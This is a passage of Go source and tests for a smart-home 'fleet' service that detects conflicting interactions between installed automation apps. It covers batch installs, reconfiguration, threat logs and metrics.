// extraction cache (bounded at GOMAXPROCS goroutines); the installs then
// run in input order under the home lock. Per-home detection stays serial
// — the detector's contract — but the dominant cold-start cost, symbolic
// execution of each app, uses every core, so provisioning a home with a
// catalog of N apps no longer pays N sequential extractions. An item that
// fails records its error and does not stop the rest (extraction errors
// are cached, so the failed pre-extraction and the install agree).
//
// The whole batch is one span ("install_batch") with a "prewarm" child
// covering the parallel extraction phase and one "install" child per
// item.
func (f *Fleet) InstallBatch(ctx context.Context, homeID string, items []BatchItem) []BatchResult {
	sp := f.opSpan(ctx, "install_batch")
	defer sp.End()
	sp.SetStr("home", homeID)
	sp.SetInt("items", int64(len(items)))

	out := make([]BatchResult, len(items))
	// One span covers the whole parallel phase: spans are single-owner,
	// so the warm goroutines never touch it.
	wsp := sp.Child("prewarm")
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.GOMAXPROCS(0))
	for i := range items {
		wg.Add(1)
		sem <- struct{}{}
		go func(src string) {
			defer wg.Done()
			defer func() { <-sem }()
			// Warm the shared cache; Install below joins the entry. The
			// error, if any, is cached and surfaces through Install.
			_, _ = f.cache.Extract(src, "")
		}(items[i].Source)
	}
	wg.Wait()
	wsp.End()
	ctx = obs.ContextWithSpan(ctx, sp)
	for i := range items {
		r, err := f.Install(ctx, homeID, items[i].Source, items[i].Config)
		out[i] = BatchResult{Result: r, Err: err}
	}
	return out
}

// ReconfigureResult is what a reconfigure returns to the frontend; it
// mirrors InstallResult (the bare (threats, logBase, err) triple it
// replaces made every new field a breaking change).
type ReconfigureResult struct {
	HomeID string
	// App is the reconfigured app's name.
	App string
	// Threats are the threats detected under the new configuration.
	Threats []detect.Threat
	// ThreatLogBase is the index of Threats[0] in the home's threat log
	// (AcceptByIndex addressing): Threats[i] is log entry ThreatLogBase+i.
	ThreatLogBase int
}

// Reconfigure updates an installed app's configuration in one home and
// re-runs detection. The result carries the threats under the new
// configuration plus their base index in the home's threat log. A nil
// cfg keeps the app's current configuration and just re-runs detection
// — it does NOT reset the bindings (pass detect.NewConfig() explicitly
// to clear them). Like Install it records per-stage spans from ctx
// (detect with the detector's children, splice) and aborts with
// ctx.Err() when the context has expired before detection starts.
func (f *Fleet) Reconfigure(ctx context.Context, homeID, appName string, cfg *detect.Config) (*ReconfigureResult, error) {
	start := time.Now()
	sp := f.opSpan(ctx, "reconfigure")
	defer sp.End()
	sp.SetStr("home", homeID)
	sp.SetStr("app", appName)

	h := f.lookup(homeID)
	if h == nil {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("fleet: home %s: %w", homeID, err)
	}
	// Closure + defer for the same panic-safety reason as Install.
	var (
		threats []detect.Threat
		logBase int
		det     DetectorTotals
		missing bool
		gone    bool
		walErr  error
	)
	func() {
		h.mu.Lock()
		defer h.mu.Unlock()
		if h.migrated {
			gone = true
			return
		}
		var target *detect.InstalledApp
		for _, a := range h.det.Apps() {
			if a.Info.Name == appName {
				target = a
				break
			}
		}
		if target == nil {
			missing = true
			return
		}
		if cfg == nil {
			cfg = target.Config // keep bindings; detect.Reconfigure would reset them
		}
		// The WAL record carries the RESOLVED config — resolution above
		// depends on the app's current bindings, which replay must not
		// re-derive from whatever state the log has reached. Encoded
		// under the lock because the resolution is.
		var opRec []byte
		if f.wal != nil {
			if opRec, walErr = encodeReconfigureOp(homeID, appName, cfg); walErr != nil {
				return
			}
		}
		dsp := sp.Child("detect")
		h.det.SetSpan(dsp)
		defer h.det.SetSpan(nil)
		// detect.Reconfigure errors only on an unknown app, and the app
		// was found above under the same lock, so the error is impossible
		// here; the missing flag above is what carries not-found out.
		threats, _ = h.det.Reconfigure(appName, cfg)
		dsp.End()
		ssp := sp.Child("splice")
		logBase = len(h.threats)
		h.threats = append(h.threats, threats...)
		h.spliceLedger(appName, threats)
		ssp.End()
		det = h.takeDetectorDelta()
		if f.wal != nil {
			wsp := sp.Child("wal.append")
			var lsn uint64
			lsn, walErr = f.wal.Append(wal.OpFleetReconfigure, opRec)
			wsp.End()
			if walErr == nil {
				h.walLSN = lsn
			}
		}
	}()
	if gone {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	if missing {
		return nil, fmt.Errorf("fleet: home %s: %w: %q", homeID, ErrAppNotInstalled, appName)
	}
	if walErr != nil {
		return nil, fmt.Errorf("fleet: home %s: wal append: %w", homeID, walErr)
	}
	f.metrics.detectorDelta(det)
	f.metrics.reconfigureDone()
	f.publishOpEvents(events.TypeReconfigure, homeID, appName, threats, time.Since(start))
	return &ReconfigureResult{
		HomeID:        homeID,
		App:           appName,
		Threats:       threats,
		ThreatLogBase: logBase,
	}, nil
}

// Accept records user-approved threats in one home so later installs
// report chains through them.
func (f *Fleet) Accept(homeID string, ts ...detect.Threat) error {
	h := f.lookup(homeID)
	if h == nil {
		return fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	var opRec []byte
	if f.wal != nil {
		var err error
		if opRec, err = encodeAcceptThreatsOp(homeID, ts); err != nil {
			return fmt.Errorf("fleet: home %s: wal encode: %w", homeID, err)
		}
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	for _, t := range ts {
		h.det.Accept(t)
	}
	if f.wal != nil {
		lsn, err := f.wal.Append(wal.OpFleetAccept, opRec)
		if err != nil {
			return fmt.Errorf("fleet: home %s: wal append: %w", homeID, err)
		}
		h.walLSN = lsn
	}
	return nil
}

// AcceptByIndex records user-approved threats addressed by their index
// in the home's threat log (the order Threats returns). This is the
// wire-API form of Accept: HTTP clients hold log indices, not
// detect.Threat values.
func (f *Fleet) AcceptByIndex(homeID string, indices ...int) error {
	h := f.lookup(homeID)
	if h == nil {
		return fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	var opRec []byte
	if f.wal != nil {
		var err error
		if opRec, err = encodeAcceptIndicesOp(homeID, indices); err != nil {
			return fmt.Errorf("fleet: home %s: wal encode: %w", homeID, err)
		}
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	for _, i := range indices {
		if i < 0 || i >= len(h.threats) {
			return fmt.Errorf("fleet: home %s: %w: %d (log has %d)", homeID, ErrBadThreatIndex, i, len(h.threats))
		}
	}
	for _, i := range indices {
		h.det.Accept(h.threats[i])
	}
	if f.wal != nil {
		lsn, err := f.wal.Append(wal.OpFleetAccept, opRec)
		if err != nil {
			return fmt.Errorf("fleet: home %s: wal append: %w", homeID, err)
		}
		h.walLSN = lsn
	}
	return nil
}

// Threats returns every threat ever reported for the home, in report
// order. The slice is a copy; the caller owns it.
func (f *Fleet) Threats(homeID string) ([]detect.Threat, error) {
	h := f.lookup(homeID)
	if h == nil {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	return append([]detect.Threat(nil), h.threats...), nil
}

// ActiveThreats returns the home's CURRENT threat set from the
// incremental ledger: the latest verdict for every app pair, with
// reconfigure-resolved threats gone and retained pairs untouched —
// unlike Threats, which is the append-only report history. Threats are
// grouped by app pair in first-report order. The slice is a copy; the
// caller owns it.
func (f *Fleet) ActiveThreats(homeID string) ([]detect.Threat, error) {
	h := f.lookup(homeID)
	if h == nil {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	var out []detect.Threat
	for _, e := range h.ledger {
		out = append(out, e.threats...)
	}
	return out, nil
}

// Apps returns the names of the apps installed in the home, in
// installation order.
func (f *Fleet) Apps(homeID string) ([]string, error) {
	h := f.lookup(homeID)
	if h == nil {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return nil, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	var names []string
	for _, a := range h.det.Apps() {
		names = append(names, a.Info.Name)
	}
	return names, nil
}

// HomeIDs returns the IDs of every home in the fleet, sorted.
func (f *Fleet) HomeIDs() []string {
	var ids []string
	for _, s := range f.shards {
		s.mu.RLock()
		for id := range s.homes {
			ids = append(ids, id)
		}
		s.mu.RUnlock()
	}
	sort.Strings(ids)
	return ids
}

// NumHomes returns the number of homes in the fleet.
func (f *Fleet) NumHomes() int {
	n := 0
	for _, s := range f.shards {
		s.mu.RLock()
		n += len(s.homes)
		s.mu.RUnlock()
	}
	return n
}

// Cache exposes the shared extraction cache (for stats and pre-warming).
func (f *Fleet) Cache() *extractcache.Cache { return f.cache }

// Verdicts exposes the shared pair-verdict cache, or nil when the fleet
// was created with DisablePairVerdicts.
func (f *Fleet) Verdicts() *pairverdict.Cache { return f.verdicts }

// Observer exposes the observability bundle the fleet was created with,
// or nil.
func (f *Fleet) Observer() *obs.Observer { return f.obs }

// Metrics returns a snapshot of fleet-wide service metrics.
func (f *Fleet) Metrics() MetricsSnapshot {
	var pv pairverdict.Stats
	if f.verdicts != nil {
		pv = f.verdicts.Stats()
	}
	return f.metrics.snapshot(f.cache.Stats(), pv)
}
