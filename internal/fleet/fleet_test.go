package fleet

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/detect"
)

func mustSource(t testing.TB, name string) string {
	t.Helper()
	app, ok := corpus.Get(name)
	if !ok {
		t.Fatalf("corpus app %s missing", name)
	}
	return app.Source
}

// TestFleetInstallDetectsThreat re-runs the Fig. 3 ComfortTV/ColdDefender
// race through the fleet path and checks the single-home behavior is
// preserved: the second install reports interference.
func TestFleetInstallDetectsThreat(t *testing.T) {
	f := New(Options{})
	r1, err := f.Install(context.Background(), "home-1", mustSource(t, "ComfortTV"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(r1.Rules) == 0 {
		t.Fatal("ComfortTV extracted no rules")
	}
	if len(r1.Threats) != 0 {
		t.Errorf("first install reported %d threats in an empty home", len(r1.Threats))
	}
	r2, err := f.Install(context.Background(), "home-1", mustSource(t, "ColdDefender"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(r2.Threats) == 0 {
		t.Fatal("ColdDefender vs ComfortTV reported no threats; expected the Fig. 3 interference")
	}
	if r2.Report == "" {
		t.Error("empty install report")
	}

	// The home's threat log matches what installs reported.
	ts, err := f.Threats("home-1")
	if err != nil {
		t.Fatal(err)
	}
	if len(ts) != len(r1.Threats)+len(r2.Threats) {
		t.Errorf("Threats() = %d entries, want %d", len(ts), len(r1.Threats)+len(r2.Threats))
	}

	apps, err := f.Apps("home-1")
	if err != nil {
		t.Fatal(err)
	}
	if len(apps) != 2 {
		t.Errorf("Apps() = %v, want 2 apps", apps)
	}

	// Homes are isolated: the same pair in another home starts clean.
	r3, err := f.Install(context.Background(), "home-2", mustSource(t, "ComfortTV"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(r3.Threats) != 0 {
		t.Errorf("fresh home reported %d threats on first install", len(r3.Threats))
	}
}

// TestFleetDuplicateInstall checks that a retried install cannot
// duplicate an app inside a home.
func TestFleetDuplicateInstall(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	_, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil)
	if !errors.Is(err, ErrAppInstalled) {
		t.Fatalf("second install of the same app: err = %v, want ErrAppInstalled", err)
	}
	apps, _ := f.Apps("h")
	if len(apps) != 1 {
		t.Errorf("home has %d apps after duplicate install, want 1", len(apps))
	}
	m := f.Metrics()
	if m.InstallConflicts != 1 {
		t.Errorf("InstallConflicts = %d, want 1", m.InstallConflicts)
	}
	if m.InstallErrors != 0 {
		t.Errorf("InstallErrors = %d after a duplicate (client conflict), want 0", m.InstallErrors)
	}
}

// TestFleetReconfigureNilKeepsConfig checks the nil-config contract:
// Reconfigure(nil) re-runs detection under the app's CURRENT bindings
// rather than silently resetting them to type-level identity.
func TestFleetReconfigureNilKeepsConfig(t *testing.T) {
	bindings := func(tv, window string) *detect.Config {
		cfg := detect.NewConfig()
		cfg.Devices["tv1"] = tv
		cfg.Devices["window1"] = window
		return cfg
	}
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), bindings("tv-A", "win-1")); err != nil {
		t.Fatal(err)
	}
	// Both apps bound to the SAME window: the pair races on one actuator
	// (AR). Dropping ColdDefender's binding would turn that into a
	// cross-device goal conflict instead, so the kinds expose whether
	// the bindings survive.
	res, err := f.Install(context.Background(), "h", mustSource(t, "ColdDefender"), bindings("tv-A", "win-1"))
	if err != nil {
		t.Fatal(err)
	}
	boundKinds := kindsOf(res.Threats)

	rr, err := f.Reconfigure(context.Background(), "h", "ColdDefender", nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := kindsOf(rr.Threats); got != boundKinds {
		t.Errorf("Reconfigure(nil) threats = %s, want the configured result %s (bindings were dropped)", got, boundKinds)
	}
	// An explicit empty config DOES reset ColdDefender's bindings. The
	// reference is a home where ColdDefender was installed unbound from
	// the start (ComfortTV keeps its bindings in both).
	rr, err = f.Reconfigure(context.Background(), "h", "ColdDefender", detect.NewConfig())
	if err != nil {
		t.Fatal(err)
	}
	ref := New(Options{})
	if _, err := ref.Install(context.Background(), "h", mustSource(t, "ComfortTV"), bindings("tv-A", "win-1")); err != nil {
		t.Fatal(err)
	}
	want, err := ref.Install(context.Background(), "h", mustSource(t, "ColdDefender"), detect.NewConfig())
	if err != nil {
		t.Fatal(err)
	}
	if got := kindsOf(rr.Threats); got != kindsOf(want.Threats) {
		t.Errorf("Reconfigure(empty) threats = %s, want unbound-install result %s", got, kindsOf(want.Threats))
	}
	if kindsOf(want.Threats) == boundKinds {
		t.Errorf("test vacuous: unbound result %s equals bound result %s", kindsOf(want.Threats), boundKinds)
	}
}

func kindsOf(ts []detect.Threat) string {
	ks := make([]string, len(ts))
	for i, t := range ts {
		ks[i] = string(t.Kind)
	}
	sort.Strings(ks)
	return strings.Join(ks, ",")
}

func TestFleetAcceptByIndex(t *testing.T) {
	f := New(Options{})
	f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil)
	res, _ := f.Install(context.Background(), "h", mustSource(t, "ColdDefender"), nil)
	if len(res.Threats) == 0 {
		t.Fatal("no threats to accept")
	}
	if res.ThreatLogBase != 0 {
		t.Errorf("ThreatLogBase = %d, want 0 for the first threats in the home", res.ThreatLogBase)
	}
	if err := f.AcceptByIndex("h", res.ThreatLogBase); err != nil {
		t.Fatalf("AcceptByIndex(valid): %v", err)
	}
	if err := f.AcceptByIndex("h", len(res.Threats)); !errors.Is(err, ErrBadThreatIndex) {
		t.Errorf("AcceptByIndex(out of range): err = %v, want ErrBadThreatIndex", err)
	}
	if err := f.AcceptByIndex("h", -1); !errors.Is(err, ErrBadThreatIndex) {
		t.Errorf("AcceptByIndex(-1): err = %v, want ErrBadThreatIndex", err)
	}
	if err := f.AcceptByIndex("ghost", 0); !errors.Is(err, ErrUnknownHome) {
		t.Errorf("AcceptByIndex(unknown home): err = %v, want ErrUnknownHome", err)
	}
}

func TestFleetUnknownHomeAndApp(t *testing.T) {
	f := New(Options{})
	if _, err := f.Threats("nope"); err == nil {
		t.Error("Threats(unknown home) did not fail")
	}
	if _, err := f.Reconfigure(context.Background(), "nope", "App", nil); err == nil {
		t.Error("Reconfigure(unknown home) did not fail")
	}
	if err := f.Accept("nope"); err == nil {
		t.Error("Accept(unknown home) did not fail")
	}
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Reconfigure(context.Background(), "h", "NoSuchApp", nil); err == nil {
		t.Error("Reconfigure(unknown app) did not fail")
	}
}

func TestFleetReconfigure(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	res, err := f.Install(context.Background(), "h", mustSource(t, "ColdDefender"), nil)
	if err != nil {
		t.Fatal(err)
	}
	// Re-running detection under a fresh (empty) config must reproduce
	// the type-level threats.
	rr, err := f.Reconfigure(context.Background(), "h", res.App.Name, detect.NewConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(rr.Threats) != len(res.Threats) {
		t.Errorf("Reconfigure found %d threats, install found %d", len(rr.Threats), len(res.Threats))
	}
	// Reconfigure threats are appended to the log after the install ones.
	if rr.ThreatLogBase != len(res.Threats) {
		t.Errorf("Reconfigure logBase = %d, want %d", rr.ThreatLogBase, len(res.Threats))
	}
	if err := f.AcceptByIndex("h", rr.ThreatLogBase); err != nil {
		t.Errorf("accepting a reconfigure-reported threat by index: %v", err)
	}
	m := f.Metrics()
	if m.Reconfigures != 1 {
		t.Errorf("Reconfigures = %d, want 1", m.Reconfigures)
	}
	// Reconfigure re-detections must not inflate per-kind counts.
	var totalKinds uint64
	for _, n := range m.ThreatsByKind {
		totalKinds += n
	}
	if totalKinds != uint64(len(res.Threats)) {
		t.Errorf("ThreatsByKind total = %d after reconfigure, want install-only %d", totalKinds, len(res.Threats))
	}
}

func TestFleetInstallError(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", "not groovy {{{", nil); err == nil {
		t.Fatal("install of unparseable source did not fail")
	}
	m := f.Metrics()
	if m.InstallErrors != 1 || m.Installs != 0 {
		t.Errorf("metrics = %+v, want 1 install error and 0 installs", m)
	}
	// A failed extraction must not create the home.
	if n := f.NumHomes(); n != 0 {
		t.Errorf("NumHomes() = %d after failed install, want 0", n)
	}
}

// TestFleetParallelInstalls drives many homes concurrently (run under
// -race in CI): every home installs the same app set, extraction runs
// once per distinct app, and each home ends with the full set installed.
func TestFleetParallelInstalls(t *testing.T) {
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	sources := make([]string, len(apps))
	for i, n := range apps {
		sources[i] = mustSource(t, n)
	}
	homes := 1000
	if testing.Short() {
		homes = 64
	}

	f := New(Options{Shards: 32})
	var wg sync.WaitGroup
	errs := make(chan error, homes)
	for h := 0; h < homes; h++ {
		wg.Add(1)
		go func(h int) {
			defer wg.Done()
			id := fmt.Sprintf("home-%04d", h)
			for _, src := range sources {
				if _, err := f.Install(context.Background(), id, src, nil); err != nil {
					errs <- fmt.Errorf("%s: %w", id, err)
					return
				}
			}
		}(h)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	if n := f.NumHomes(); n != homes {
		t.Fatalf("NumHomes() = %d, want %d", n, homes)
	}
	cs := f.Cache().Stats()
	if int(cs.Misses) != len(apps) {
		t.Errorf("cache misses = %d, want exactly one extraction per distinct app (%d)", cs.Misses, len(apps))
	}
	if wantHits := uint64(homes*len(apps) - len(apps)); cs.Hits != wantHits {
		t.Errorf("cache hits = %d, want %d", cs.Hits, wantHits)
	}
	m := f.Metrics()
	if m.Installs != uint64(homes*len(apps)) {
		t.Errorf("Installs = %d, want %d", m.Installs, homes*len(apps))
	}
	if m.InstallP50 == 0 || m.InstallP99 == 0 || m.InstallP50 > m.InstallP99 {
		t.Errorf("latency quantiles p50=%v p99=%v look wrong", m.InstallP50, m.InstallP99)
	}
	// Every home saw the same app pairs, so the per-kind totals must be
	// an exact per-home multiple.
	for kind, n := range m.ThreatsByKind {
		if n%uint64(homes) != 0 {
			t.Errorf("threat kind %s count %d is not a multiple of %d homes", kind, n, homes)
		}
	}
	ids := f.HomeIDs()
	if len(ids) != homes {
		t.Fatalf("HomeIDs() returned %d ids, want %d", len(ids), homes)
	}
	for _, probe := range []int{0, homes / 2, homes - 1} {
		got, err := f.Apps(ids[probe])
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != len(apps) {
			t.Errorf("home %s has %d apps, want %d", ids[probe], len(got), len(apps))
		}
	}
}

// TestFleetSharedCacheAcrossFleets checks that a caller-provided cache is
// reused rather than replaced.
func TestFleetSharedCacheAcrossFleets(t *testing.T) {
	f1 := New(Options{})
	if _, err := f1.Install(context.Background(), "a", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	f2 := New(Options{Cache: f1.Cache()})
	if _, err := f2.Install(context.Background(), "b", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	if s := f1.Cache().Stats(); s.Misses != 1 || s.Hits != 1 {
		t.Errorf("shared cache stats = %+v, want 1 miss / 1 hit across fleets", s)
	}
}

// TestInstallBatch covers the parallel-extraction batch install: results
// in input order, duplicate-app and parse errors in their slots, and all
// extractions served through the shared cache.
func TestInstallBatch(t *testing.T) {
	f := New(Options{})
	a1, _ := corpus.Get("ComfortTV")
	a2, _ := corpus.Get("ColdDefender")
	items := []BatchItem{
		{Source: a1.Source},
		{Source: "def broken( {"},
		{Source: a2.Source},
		{Source: a1.Source}, // duplicate of item 0 in the same home
	}
	out := f.InstallBatch(context.Background(), "home-batch", items)
	if len(out) != 4 {
		t.Fatalf("got %d results, want 4", len(out))
	}
	if out[0].Err != nil || out[0].Result == nil {
		t.Fatalf("item 0: unexpected error %v", out[0].Err)
	}
	if out[1].Err == nil {
		t.Fatal("item 1: want parse error")
	}
	if out[2].Err != nil {
		t.Fatalf("item 2: unexpected error %v", out[2].Err)
	}
	if !errors.Is(out[3].Err, ErrAppInstalled) {
		t.Fatalf("item 3: want ErrAppInstalled, got %v", out[3].Err)
	}
	apps, err := f.Apps("home-batch")
	if err != nil || len(apps) != 2 {
		t.Fatalf("installed apps = %v (%v), want 2", apps, err)
	}
	if st := f.Cache().Stats(); st.Misses == 0 || st.Hits == 0 {
		t.Fatalf("batch did not go through the shared cache: %+v", st)
	}
}
