package fleet

import (
	"context"
	"errors"
	"testing"

	"homeguard/internal/detect"
)

func bindingsFor(tv, window string) *detect.Config {
	cfg := detect.NewConfig()
	cfg.Devices["tv1"] = tv
	cfg.Devices["window1"] = window
	return cfg
}

// TestActiveThreatsLedger exercises the incremental per-home ledger:
// installs append pair groups, a reconfigure that resolves a pair removes
// exactly its entries from the active view (while the history log keeps
// them), and a reconfigure that restores the binding brings them back.
func TestActiveThreatsLedger(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), bindingsFor("tv-A", "win-1")); err != nil {
		t.Fatal(err)
	}
	res, err := f.Install(context.Background(), "h", mustSource(t, "ColdDefender"), bindingsFor("tv-A", "win-1"))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Threats) == 0 {
		t.Fatal("precondition: shared window must interfere")
	}

	active, err := f.ActiveThreats("h")
	if err != nil {
		t.Fatal(err)
	}
	if kindsOf(active) != kindsOf(res.Threats) {
		t.Fatalf("active = %s, want the install result %s", kindsOf(active), kindsOf(res.Threats))
	}

	// Re-binding ColdDefender to another window resolves the pair: the
	// active view must drop its threats, the history must keep them.
	resolvedRes, err := f.Reconfigure(context.Background(), "h", "ColdDefender", bindingsFor("tv-A", "win-OTHER"))
	if err != nil {
		t.Fatal(err)
	}
	active, err = f.ActiveThreats("h")
	if err != nil {
		t.Fatal(err)
	}
	if kindsOf(active) != kindsOf(resolvedRes.Threats) {
		t.Errorf("active after resolving reconfigure = %s, want %s", kindsOf(active), kindsOf(resolvedRes.Threats))
	}
	if hist, _ := f.Threats("h"); len(hist) < len(res.Threats) {
		t.Errorf("history shrank to %d entries; the log is append-only", len(hist))
	}

	// Restoring the shared binding brings the pair's threats back.
	restoredRes, err := f.Reconfigure(context.Background(), "h", "ColdDefender", bindingsFor("tv-A", "win-1"))
	if err != nil {
		t.Fatal(err)
	}
	if kindsOf(restoredRes.Threats) != kindsOf(res.Threats) {
		t.Fatalf("restore reconfigure = %s, want %s", kindsOf(restoredRes.Threats), kindsOf(res.Threats))
	}
	active, err = f.ActiveThreats("h")
	if err != nil {
		t.Fatal(err)
	}
	if kindsOf(active) != kindsOf(res.Threats) {
		t.Errorf("active after restore = %s, want %s", kindsOf(active), kindsOf(res.Threats))
	}

	if _, err := f.ActiveThreats("ghost"); !errors.Is(err, ErrUnknownHome) {
		t.Errorf("ActiveThreats(unknown home): err = %v, want ErrUnknownHome", err)
	}
}

// TestLedgerRetainsUntouchedPairs pins the splice contract: reconfiguring
// one app must not disturb ledger entries of pairs it is not part of.
func TestLedgerRetainsUntouchedPairs(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), bindingsFor("tv-A", "win-1")); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ColdDefender"), bindingsFor("tv-A", "win-1")); err != nil {
		t.Fatal(err)
	}
	before, err := f.ActiveThreats("h")
	if err != nil {
		t.Fatal(err)
	}
	if len(before) == 0 {
		t.Fatal("precondition: expected active threats")
	}
	// Install an unrelated third app bound to disjoint devices, then
	// reconfigure it: the (ComfortTV, ColdDefender) entries must survive
	// the splice byte-for-byte.
	cfg := detect.NewConfig()
	cfg.Devices["contact1"] = "dev-contact-far"
	cfg.Devices["lock1"] = "dev-lock-far"
	if _, err := f.Install(context.Background(), "h", mustSource(t, "AutoLockDoor"), cfg); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Reconfigure(context.Background(), "h", "AutoLockDoor", cfg); err != nil {
		t.Fatal(err)
	}
	after, err := f.ActiveThreats("h")
	if err != nil {
		t.Fatal(err)
	}
	if kindsOf(after) != kindsOf(before) {
		t.Errorf("reconfiguring an unrelated app changed the active set: %s -> %s",
			kindsOf(before), kindsOf(after))
	}
}

// TestReconfigureUnknownAppTyped is the regression test for the typed
// not-found contract: an unknown app name fails with ErrAppNotInstalled
// (matchable with errors.Is, mapped to 404 by homeguardd), and an unknown
// home with ErrUnknownHome — never a generic error.
func TestReconfigureUnknownAppTyped(t *testing.T) {
	f := New(Options{})
	if _, err := f.Install(context.Background(), "h", mustSource(t, "ComfortTV"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Reconfigure(context.Background(), "h", "NoSuchApp", nil); !errors.Is(err, ErrAppNotInstalled) {
		t.Errorf("Reconfigure(unknown app): err = %v, want ErrAppNotInstalled", err)
	}
	if _, err := f.Reconfigure(context.Background(), "ghost", "ComfortTV", nil); !errors.Is(err, ErrUnknownHome) {
		t.Errorf("Reconfigure(unknown home): err = %v, want ErrUnknownHome", err)
	}
	// The detect layer reports the same condition with its own sentinel.
	d := detect.New(detect.Options{})
	if _, err := d.Reconfigure("NoSuchApp", nil); !errors.Is(err, detect.ErrAppNotInstalled) {
		t.Errorf("detect.Reconfigure(unknown app): err = %v, want detect.ErrAppNotInstalled", err)
	}
}
