package fleet

import (
	"sort"
	"sync"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/obs"
	"homeguard/internal/pairverdict"
)

// metrics aggregates fleet-wide counters behind one mutex. Every field is
// guarded by mu; detector-level stats stay per-home behind home locks and
// are folded in as deltas when each install/reconfigure completes, so
// reading a snapshot never touches a home lock (a wedged or long-running
// install must not stall /metrics, and scrapes stay O(1) at fleet scale).
// The install-latency histogram is an obs.Histogram (40 exponential
// buckets from 1µs, nearest-rank-ceiling quantiles); its atomics make it
// safe to snapshot without mu, but writes still happen under mu with the
// rest of the install bookkeeping.
type metrics struct {
	mu               sync.Mutex
	homes            uint64
	installs         uint64
	installErrors    uint64
	installConflicts uint64
	reconfigures     uint64
	threats          map[detect.Kind]uint64
	installLat       obs.Histogram
	det              DetectorTotals
}

func newMetrics() *metrics {
	return &metrics{threats: map[detect.Kind]uint64{}}
}

func (m *metrics) homeCreated() {
	m.mu.Lock()
	m.homes++
	m.mu.Unlock()
}

func (m *metrics) homeRemoved() {
	m.mu.Lock()
	if m.homes > 0 {
		m.homes--
	}
	m.mu.Unlock()
}

func (m *metrics) installDone(d time.Duration, threats []detect.Threat) {
	m.mu.Lock()
	m.installs++
	m.installLat.Observe(d)
	for _, t := range threats {
		m.threats[t.Kind]++
	}
	m.mu.Unlock()
}

func (m *metrics) installFailed() {
	m.mu.Lock()
	m.installErrors++
	m.mu.Unlock()
}

func (m *metrics) installConflicted() {
	m.mu.Lock()
	m.installConflicts++
	m.mu.Unlock()
}

// detectorDelta folds one home's detector-counter growth into the
// fleet-wide totals. The caller computes the delta under the home's lock
// (detector counters only grow, so cur - prev is exact) and reports it
// here afterwards.
func (m *metrics) detectorDelta(d DetectorTotals) {
	m.mu.Lock()
	m.det.PairsChecked += d.PairsChecked
	m.det.PairsPruned += d.PairsPruned
	m.det.PairsIndexed += d.PairsIndexed
	m.det.PairsSkippedByIndex += d.PairsSkippedByIndex
	m.det.SolverCalls += d.SolverCalls
	m.det.SolverCacheHits += d.SolverCacheHits
	m.det.PairVerdictHits += d.PairVerdictHits
	m.det.PairVerdictMisses += d.PairVerdictMisses
	m.det.SearchLimitHits += d.SearchLimitHits
	m.mu.Unlock()
}

// reconfigureDone deliberately does not feed ThreatsByKind: a reconfigure
// re-reports threats over the same rule pairs, and re-counting them would
// inflate the per-kind totals with every no-op reconfigure.
func (m *metrics) reconfigureDone() {
	m.mu.Lock()
	m.reconfigures++
	m.mu.Unlock()
}

// MetricsSnapshot is a point-in-time view of fleet service metrics.
type MetricsSnapshot struct {
	Homes         uint64
	Installs      uint64
	InstallErrors uint64
	// InstallConflicts counts duplicate-app installs (client retries
